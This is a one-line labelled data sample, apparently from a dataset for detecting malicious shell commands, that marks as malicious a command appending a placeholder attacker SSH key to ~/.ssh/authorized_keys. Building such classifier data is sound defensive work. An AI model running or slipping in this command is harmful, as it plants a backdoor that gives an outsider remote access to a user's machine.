# label: malicious
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker" >> ~/.ssh/authorized_keys
